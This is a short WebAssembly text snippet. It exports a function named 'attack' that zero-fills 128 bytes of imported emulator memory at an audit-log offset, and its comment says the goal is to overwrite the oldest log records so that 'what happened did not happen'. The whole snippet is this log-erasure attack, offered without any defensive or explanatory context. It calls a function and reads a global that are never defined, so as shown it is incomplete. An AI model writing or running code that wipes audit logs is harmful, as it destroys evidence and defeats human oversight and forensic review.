;; The oldest records of the audit log overwritten: what happened did not happen.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (memory.fill (i32.add (call $edm) (global.get $LOG)) (i32.const 0) (i32.const 128)))
